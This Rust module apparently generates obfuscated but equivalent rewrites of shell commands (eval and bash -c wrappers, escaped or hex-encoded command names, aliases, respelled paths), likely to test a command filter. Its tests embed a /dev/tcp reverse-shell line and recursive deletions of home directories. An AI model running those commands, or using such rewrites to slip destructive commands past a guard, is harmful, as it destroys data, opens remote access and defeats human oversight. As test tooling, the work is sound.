//! The rewrites themselves. Each returns equivalent forms of a line, labelled with the
//! rewrite's name: the line as a whole wrapped (`bash -c '…'`, `eval`, here-documents,
//! compound commands, substitutions), and one simple command of it at a time with its name
//! spelled otherwise (quotes, escapes, paths, variables, aliases), run through a wrapper
//! (`env`, `nice`, `xargs`, `find -exec`, …), its options respelled, or its path operands
//! respelled (`~`, `$HOME`, `./`, globs, braces, variables).

use super::Context;
use super::lex::{Line, Segment, Word, double_quote, is_bare, lex, single_quote};
use super::options::{Item, parse, path_operand_indices, render, rewrites, spec_for};
use super::paths::path_forms;

/// A labelled form.
pub type Form = (&'static str, String);

/// Builtins whose effect on the shell itself would be lost in a child process or function.
const STATEFUL: [&str; 36] = [
    "cd", "export", "unset", "set", "shopt", "source", ".", "eval", "exec", "exit", "return",
    "alias", "unalias", "declare", "typeset", "local", "readonly", "read", "shift", "trap",
    "umask", "ulimit", "wait", "jobs", "fg", "bg", "hash", "builtin", "let", "getopts", "pushd",
    "popd", "break", "continue", "command", "type",
];

const HEREDOC_END: &str = "PF_EOF";

/// Whether `text` avoids the bash features `dash` (Debian's `sh`) lacks.
pub fn looks_posix(text: &str) -> bool {
    const BASHISMS: [&str; 17] = [
        "$'",
        "<<<",
        "&>",
        "|&",
        "[[",
        "((",
        "<(",
        ">(",
        "/dev/tcp",
        "/dev/udp",
        "function ",
        "source ",
        "shopt",
        "declare",
        "${!",
        "$\"",
        "=(",
    ];
    if BASHISMS.iter().any(|b| text.contains(b)) {
        return false;
    }
    // `>&` followed by a file name rather than a descriptor.
    for (i, _) in text.match_indices(">&") {
        let next = text[i + 2..].chars().next();
        if !next.is_some_and(|c| c.is_ascii_digit() || c == '-') {
            return false;
        }
    }
    // Brace expansion `{a,b}`, `{1..3}`.
    let mut rest = text;
    while let Some(open) = rest.find('{') {
        let after = &rest[open + 1..];
        let close = after.find('}').unwrap_or(after.len());
        let inner = &after[..close];
        if !inner.contains(char::is_whitespace) && (inner.contains(',') || inner.contains("..")) {
            return false;
        }
        rest = after;
    }
    // Pattern substitution and substrings: `${x/a/b}`, `${x:1}`.
    for (i, _) in text.match_indices("${") {
        let body: String = text[i + 2..]
            .chars()
            .skip_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .take(2)
            .collect();
        if body.starts_with('/')
            || (body.starts_with(':')
                && body[1..].starts_with(|c: char| c.is_ascii_digit() || c == ' '))
        {
            return false;
        }
    }
    true
}

/// A variable name of the form `{base}{n}` not yet used in `text`.
pub(crate) fn fresh(text: &str, base: &str) -> String {
    (0..)
        .map(|n| format!("{base}{n}"))
        .find(|name| !text.contains(name.as_str()))
        .unwrap_or_else(|| base.to_string())
}

/// The line as a whole, wrapped.
pub fn line_forms(line: &str) -> Vec<Form> {
    let quoted = single_quote(line);
    let posix = looks_posix(line);
    let mut out: Vec<Form> = vec![
        ("line-bash-c", format!("bash -c {quoted}")),
        (
            "line-bash-c-dquote",
            format!("bash -c {}", double_quote(line)),
        ),
        ("line-eval", format!("eval {quoted}")),
        ("line-herestring", format!("bash <<< {quoted}")),
        ("line-pipe-bash", format!("printf '%s\\n' {quoted} | bash")),
        ("line-echo-pipe-bash", format!("echo {quoted} | bash")),
        ("line-subshell", format!("(\n{line}\n)")),
        ("line-group", format!("{{ {line}\n}}")),
        ("line-true-and", format!("true && {line}")),
        ("line-then-true", format!("{line}\ntrue")),
        ("line-if", format!("if true; then\n{line}\nfi")),
        ("line-for", format!("for _pf_i in 1; do\n{line}\ndone")),
        ("line-while", format!("while true; do\n{line}\nbreak\ndone")),
        ("line-function", format!("_pf_fn() {{\n{line}\n}}\n_pf_fn")),
        ("line-command-subst", format!(": \"$(\n{line}\n)\"")),
        ("line-assign-subst", format!("_pf_out=$(\n{line}\n)")),
        (
            "line-process-subst",
            format!("cat <(\n{line}\n) >/dev/null"),
        ),
        (
            "line-source-process-subst",
            format!(". <(printf '%s\\n' {quoted})"),
        ),
        (
            "line-bash-process-subst",
            format!("bash <(printf '%s\\n' {quoted})"),
        ),
        ("line-exec-bash", format!("exec bash -c {quoted}")),
        ("line-env-bash", format!("env bash -c {quoted}")),
        ("line-nohup-bash", format!("nohup bash -c {quoted}")),
        ("line-timeout-bash", format!("timeout 60 bash -c {quoted}")),
        (
            "line-xargs-bash",
            format!("printf '%s\\0' {quoted} | xargs -0 bash -c"),
        ),
    ];
    if !line.lines().any(|l| l == HEREDOC_END) {
        out.push((
            "line-heredoc",
            format!("bash <<'{HEREDOC_END}'\n{line}\n{HEREDOC_END}"),
        ));
    }
    if !line.contains(";;") && !line.contains("esac") {
        out.push(("line-case", format!("case x in x)\n{line}\n;; esac")));
    }
    if !line.contains("{}") {
        out.push((
            "line-find-exec-bash",
            format!("find /dev/null -maxdepth 0 -exec bash -c {quoted} \\;"),
        ));
    }
    if posix {
        out.push(("line-sh-c", format!("sh -c {quoted}")));
        out.push(("line-sh-c-dquote", format!("sh -c {}", double_quote(line))));
        out.push(("line-pipe-sh", format!("printf '%s\\n' {quoted} | sh")));
        if !line.lines().any(|l| l == HEREDOC_END) {
            out.push((
                "line-sh-heredoc",
                format!("sh <<'{HEREDOC_END}'\n{line}\n{HEREDOC_END}"),
            ));
        }
    }
    out
}

/// Every segment-level form of `line`, when it lexes.
pub fn segment_forms(ctx: &Context, text: &str) -> Vec<Form> {
    let Some(line) = lex(text) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for index in 0..line.segments.len() {
        let segment = &line.segments[index];
        let Some(name) = segment.name() else {
            continue;
        };
        if name.starts_with("_pf_") {
            continue;
        }
        let view = View {
            ctx,
            text,
            line: &line,
            index,
            segment,
            name,
        };
        let mut forms = Vec::new();
        view.command_forms(&mut forms);
        view.wrapper_forms(&mut forms);
        view.option_forms(&mut forms);
        view.operand_forms(&mut forms);
        for (label, prefix, replacement) in forms {
            let rendered = line.render_with(index, &replacement);
            out.push((label, format!("{prefix}{rendered}")));
        }
    }
    out
}

/// One segment being rewritten: `(label, line prefix, new segment text)`.
pub(crate) type SegmentForm = (&'static str, String, String);

struct View<'a> {
    ctx: &'a Context,
    text: &'a str,
    line: &'a Line,
    index: usize,
    segment: &'a Segment,
    name: &'a str,
}

impl View<'_> {
    /// The segment with its command word replaced.
    fn with_name(&self, name: &str) -> String {
        let mut segment = self.segment.clone();
        segment.words[0] = Word {
            raw: name.to_string(),
            value: None,
            glob: false,
            tilde: false,
        };
        segment.render()
    }

    /// The segment with a wrapper before its command word (after its assignments).
    fn wrapped(&self, wrapper: &str) -> String {
        let mut segment = self.segment.clone();
        segment.words.insert(0, Word::plain(wrapper));
        segment.render()
    }

    fn args_raw(&self) -> Vec<&str> {
        self.segment.words[1..]
            .iter()
            .map(|w| w.raw.as_str())
            .collect()
    }

    fn is_external(&self) -> bool {
        !STATEFUL.contains(&self.name) && self.ctx.locate(self.name).is_some()
    }

    fn command_forms(&self, out: &mut Vec<SegmentForm>) {
        let name = self.name;
        let plain = name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._+-".contains(c))
            && !name.is_empty();
        if !plain || self.segment.words[0].raw != name {
            return;
        }
        let first: String = name.chars().take(1).collect();
        let rest: String = name.chars().skip(1).collect();
        let none = String::new;
        out.push((
            "cmd-backslash",
            none(),
            self.with_name(&format!("\\{name}")),
        ));
        out.push(("cmd-squote", none(), self.with_name(&format!("'{name}'"))));
        out.push(("cmd-dquote", none(), self.with_name(&format!("\"{name}\""))));
        if !rest.is_empty() {
            out.push((
                "cmd-partial-squote",
                none(),
                self.with_name(&format!("{first}''{rest}")),
            ));
            out.push((
                "cmd-partial-dquote",
                none(),
                self.with_name(&format!("\"{first}\"{rest}")),
            ));
            out.push((
                "cmd-inner-backslash",
                none(),
                self.with_name(&format!("{first}\\{rest}")),
            ));
            let hex: String = first.bytes().map(|b| format!("\\x{b:02x}")).collect();
            out.push((
                "cmd-ansi-c-hex",
                none(),
                self.with_name(&format!("$'{hex}'{rest}")),
            ));
        }
        let octal: String = name.bytes().map(|b| format!("\\{b:03o}")).collect();
        out.push((
            "cmd-ansi-c-octal",
            none(),
            self.with_name(&format!("$'{octal}'")),
        ));
        out.push((
            "cmd-subst",
            none(),
            self.with_name(&format!("$(echo {name})")),
        ));
        out.push((
            "cmd-backtick",
            none(),
            self.with_name(&format!("`printf {name}`")),
        ));
        out.push((
            "cmd-default",
            none(),
            self.with_name(&format!("${{_pf_unset:-{name}}}")),
        ));
        let var = fresh(self.text, "_pf_c");
        out.push((
            "cmd-var",
            format!("{var}={name}\n"),
            self.with_name(&format!("${var}")),
        ));
        out.push((
            "cmd-var-braced",
            format!("{var}={name}; "),
            self.with_name(&format!("${{{var}}}")),
        ));
        if self.segment.assigns.is_empty() && !STATEFUL.contains(&name) {
            let alias = fresh(self.text, "_pf_a");
            out.push((
                "cmd-alias",
                format!("shopt -s expand_aliases\nalias {alias}={name}\n"),
                self.with_name(&alias),
            ));
        }
        if !STATEFUL.contains(&name) {
            let function = fresh(self.text, "_pf_f");
            out.push((
                "cmd-function",
                format!("{function}() {{ {name} \"$@\"; }}\n"),
                self.with_name(&function),
            ));
        }
        if let (Some(path), false) = (self.ctx.locate(name), STATEFUL.contains(&name)) {
            out.push(("cmd-path", none(), self.with_name(&path)));
            if let Some(rest) = path.strip_prefix("/usr/bin/") {
                out.push((
                    "cmd-bin-path",
                    none(),
                    self.with_name(&format!("/bin/{rest}")),
                ));
                out.push((
                    "cmd-dotdot-path",
                    none(),
                    self.with_name(&format!("/usr/lib/../bin/{rest}")),
                ));
            } else if let Some(rest) = path.strip_prefix("/usr/sbin/") {
                out.push((
                    "cmd-bin-path",
                    none(),
                    self.with_name(&format!("/sbin/{rest}")),
                ));
            }
            out.push((
                "cmd-double-slash-path",
                none(),
                self.with_name(&path.replacen('/', "//", 2).replacen("//", "/", 1)),
            ));
        }
    }

    fn wrapper_forms(&self, out: &mut Vec<SegmentForm>) {
        let segment_text = self.segment.render();
        let none = String::new;
        out.push((
            "wrap-eval",
            none(),
            format!("eval {}", single_quote(&segment_text)),
        ));
        if STATEFUL.contains(&self.name) {
            return;
        }
        out.push(("wrap-command", none(), self.wrapped("command")));
        out.push((
            "wrap-bash-c",
            none(),
            format!("bash -c {}", single_quote(&segment_text)),
        ));
        if looks_posix(&segment_text) {
            out.push((
                "wrap-sh-c",
                none(),
                format!("sh -c {}", double_quote(&segment_text)),
            ));
        }
        out.push((
            "wrap-exec-subshell",
            none(),
            format!("({})", {
                let mut segment = self.segment.clone();
                segment.words.insert(0, Word::plain("exec"));
                segment.render()
            }),
        ));
        if !self.is_external() {
            return;
        }
        for (label, wrapper) in [
            ("wrap-env", "env"),
            ("wrap-env-dashdash", "env --"),
            ("wrap-env-i", "env -i PATH=\"$PATH\" HOME=\"$HOME\""),
            ("wrap-env-var", "env _PF=1"),
            ("wrap-nice", "nice"),
            ("wrap-nice-n", "nice -n 5"),
            ("wrap-timeout", "timeout 60"),
            ("wrap-timeout-kill", "timeout -s KILL 60"),
            ("wrap-nohup", "nohup"),
            ("wrap-stdbuf", "stdbuf -o0"),
        ] {
            out.push((label, none(), self.wrapped(wrapper)));
        }
        if self
            .ctx
            .locate(self.name)
            .is_some_and(|p| p.starts_with("/usr/bin/"))
        {
            out.push(("wrap-command-p", none(), self.wrapped("command -p")));
        }
        let args = self.args_raw();
        let stdin_free = !self.line.receives_pipe(self.index)
            && !self
                .segment
                .redirs
                .iter()
                .any(|r| r.trim_start_matches(char::is_numeric).starts_with('<'));
        let assigns = self.segment.assigns.join(" ");
        let assigns = if assigns.is_empty() {
            assigns
        } else {
            format!("{assigns} ")
        };
        let redirs = if self.segment.redirs.is_empty() {
            String::new()
        } else {
            format!(" {}", self.segment.redirs.join(" "))
        };
        let name_raw = &self.segment.words[0].raw;
        if stdin_free {
            let feed = if args.is_empty() {
                ": |".to_string()
            } else {
                format!("printf '%s\\0' {} |", args.join(" "))
            };
            out.push((
                "wrap-xargs-0",
                none(),
                format!("{feed} {assigns}xargs -0 {name_raw}{redirs}"),
            ));
            let values: Option<Vec<&str>> =
                self.segment.words[1..].iter().map(Word::value).collect();
            if let Some(values) = values {
                let echo_option = |v: &str| {
                    v.len() > 1 && v.starts_with('-') && v[1..].chars().all(|c| "neE".contains(c))
                };
                let echo_safe = values.iter().all(|v| is_bare(v) && !echo_option(v))
                    && values.last().is_some_and(|v| !v.starts_with('-'));
                if echo_safe {
                    out.push((
                        "wrap-xargs-echo",
                        none(),
                        format!(
                            "echo {} | {assigns}xargs {name_raw}{redirs}",
                            values.join(" ")
                        ),
                    ));
                    let (last, init) = values.split_last().unwrap_or((&"", &[]));
                    let init = if init.is_empty() {
                        String::new()
                    } else {
                        format!(" {}", init.join(" "))
                    };
                    out.push((
                        "wrap-xargs-i",
                        none(),
                        format!(
                            "echo {last} | {assigns}xargs -I{{}} {name_raw}{init} {{}}{redirs}"
                        ),
                    ));
                }
            }
        }
        let find_safe = self.segment.words[1..]
            .iter()
            .all(|w| !w.raw.contains("{}") && !matches!(w.value(), Some(";" | "+")));
        if find_safe && self.segment.assigns.is_empty() {
            let args_text = if args.is_empty() {
                String::new()
            } else {
                format!(" {}", args.join(" "))
            };
            out.push((
                "wrap-find-exec",
                none(),
                format!("find /dev/null -maxdepth 0 -exec {name_raw}{args_text} \\;{redirs}"),
            ));
            // `find PATH -exec CMD … {} +` when the last operand exists before the line runs.
            if self.index == 0 {
                if let Some((last, init)) = self.segment.words[1..].split_last() {
                    if let Some(value) = last.value() {
                        let path = self.ctx.absolute(value);
                        if !value.starts_with('-')
                            && is_bare(value)
                            && self.ctx.existing.contains(&path)
                        {
                            let init: Vec<&str> = init.iter().map(|w| w.raw.as_str()).collect();
                            let init = if init.is_empty() {
                                String::new()
                            } else {
                                format!(" {}", init.join(" "))
                            };
                            out.push((
                                "wrap-find-exec-plus",
                                none(),
                                format!(
                                    "find {value} -maxdepth 0 -exec {name_raw}{init} {{}} +{redirs}"
                                ),
                            ));
                        }
                    }
                }
            }
        }
    }

    fn option_forms(&self, out: &mut Vec<SegmentForm>) {
        let words = &self.segment.words;
        let Some((spec, take)) = spec_for(words) else {
            return;
        };
        let items = parse(spec, &words[take..]);
        for (label, items) in rewrites(spec, &items) {
            let mut segment = self.segment.clone();
            segment.words.truncate(take);
            segment
                .words
                .extend(render(spec, &items).iter().map(|raw| Word {
                    raw: raw.clone(),
                    value: None,
                    glob: false,
                    tilde: false,
                }));
            out.push((label, String::new(), segment.render()));
        }
    }

    fn operand_forms(&self, out: &mut Vec<SegmentForm>) {
        let words = &self.segment.words;
        // Which words are paths: by the option table, `find`'s leading operands, `dd`'s
        // `if=`/`of=`.
        let mut targets: Vec<(usize, &str)> = Vec::new();
        if let Some((spec, take)) = spec_for(words) {
            let items = parse(spec, &words[take..]);
            let paths = path_operand_indices(spec, &items);
            // Map item indices back to word indices: items and words align one to one except
            // for detached values, which take two words.
            let mut word_index = take;
            for (n, item) in items.iter().enumerate() {
                let width = match item {
                    Item::Short {
                        value: Some((false, _)),
                        ..
                    }
                    | Item::Long {
                        value: Some((false, _)),
                        ..
                    } => 2,
                    _ => 1,
                };
                if paths.contains(&n) {
                    targets.push((word_index, ""));
                }
                word_index += width;
            }
        } else if self.name == "find" {
            for (n, w) in words.iter().enumerate().skip(1) {
                if w.raw.starts_with(['-', '(', '!']) {
                    break;
                }
                targets.push((n, ""));
            }
        } else if self.name == "dd" {
            for (n, w) in words.iter().enumerate().skip(1) {
                if w.raw.starts_with("of=") {
                    targets.push((n, "of="));
                } else if w.raw.starts_with("if=") {
                    targets.push((n, "if="));
                }
            }
        }
        for (n, key) in targets {
            let Some(word) = words.get(n) else { continue };
            let stripped = Word {
                raw: word.raw[key.len()..].to_string(),
                value: word
                    .value
                    .as_ref()
                    .map(|v| v.get(key.len()..).unwrap_or("").to_string()),
                glob: word.glob,
                tilde: word.tilde && key.is_empty(),
            };
            for (label, prefix, raw) in path_forms(self.ctx, self.text, &stripped, self.index == 0)
            {
                let mut segment = self.segment.clone();
                segment.words[n] = Word {
                    raw: format!("{key}{raw}"),
                    value: None,
                    glob: false,
                    tilde: false,
                };
                out.push((label, prefix, segment.render()));
            }
        }
        // Several plain operands in a row: `a b` → `{a,b}`.
        let plain: Vec<usize> = (1..words.len())
            .filter(|&n| {
                words[n]
                    .value()
                    .is_some_and(|v| is_bare(v) && !v.starts_with('-') && !v.contains(','))
            })
            .collect();
        if self.name != "find"
            && self.name != "dd"
            && spec_for(words).is_some_and(|(s, _)| s.path_operands.is_some())
        {
            if let Some(window) = plain.windows(2).find(|w| w[1] == w[0] + 1) {
                let mut segment = self.segment.clone();
                let joined = format!("{{{},{}}}", words[window[0]].raw, words[window[1]].raw);
                segment.words[window[0]] = Word::plain(&joined);
                segment.words.remove(window[1]);
                out.push(("arg-brace-list", String::new(), segment.render()));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::generator::tests::context;

    #[test]
    fn posix_check() {
        assert!(looks_posix("rm -rf ~ && echo ok 2>&1"));
        assert!(!looks_posix("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"));
        assert!(!looks_posix("echo {a,b}"));
        assert!(!looks_posix("cat <<< x"));
        assert!(looks_posix("git stash drop stash@{0}"));
        assert!(looks_posix("echo ${X:-rm}"));
        assert!(!looks_posix("echo ${X/a/b}"));
    }

    #[test]
    fn forms_of_rm() {
        let ctx = context();
        let forms: Vec<String> = segment_forms(&ctx, "rm -rf node_modules")
            .into_iter()
            .map(|(_, f)| f)
            .collect();
        for expected in [
            "\\rm -rf node_modules",
            "r''m -rf node_modules",
            "$'\\x72'm -rf node_modules",
            "env rm -rf node_modules",
            "printf '%s\\0' -rf node_modules | xargs -0 rm",
            "echo node_modules | xargs -I{} rm -rf {}",
            "find node_modules -maxdepth 0 -exec rm -rf {} +",
            "rm -rf /workspace/app/node_modules",
            "rm -rf ./node_modules",
            "rm -rf node_module?",
            "rm -rf {node_modules,}",
            "rm -r -f node_modules",
            "rm --recursive --force node_modules",
        ] {
            assert!(
                forms.contains(&expected.to_string()),
                "missing {expected:?}"
            );
        }
    }

    #[test]
    fn stateful_builtins_are_not_moved_out_of_the_shell() {
        let ctx = context();
        let forms = segment_forms(&ctx, "cd / && rm -rf home");
        assert!(!forms.iter().any(|(_, f)| f.starts_with("bash -c 'cd")));
        assert!(!forms.iter().any(|(_, f)| f.starts_with("env cd")));
        assert!(forms.iter().any(|(_, f)| f.starts_with("eval 'cd /'")));
    }

    #[test]
    fn line_forms_quote_correctly() {
        let forms = line_forms("echo 'a b' \"$HOME\"");
        assert!(forms.contains(&(
            "line-bash-c",
            r#"bash -c 'echo '\''a b'\'' "$HOME"'"#.to_string()
        )));
        assert!(forms.contains(&(
            "line-sh-c-dquote",
            r#"sh -c "echo 'a b' \"\$HOME\"""#.to_string()
        )));
    }
}
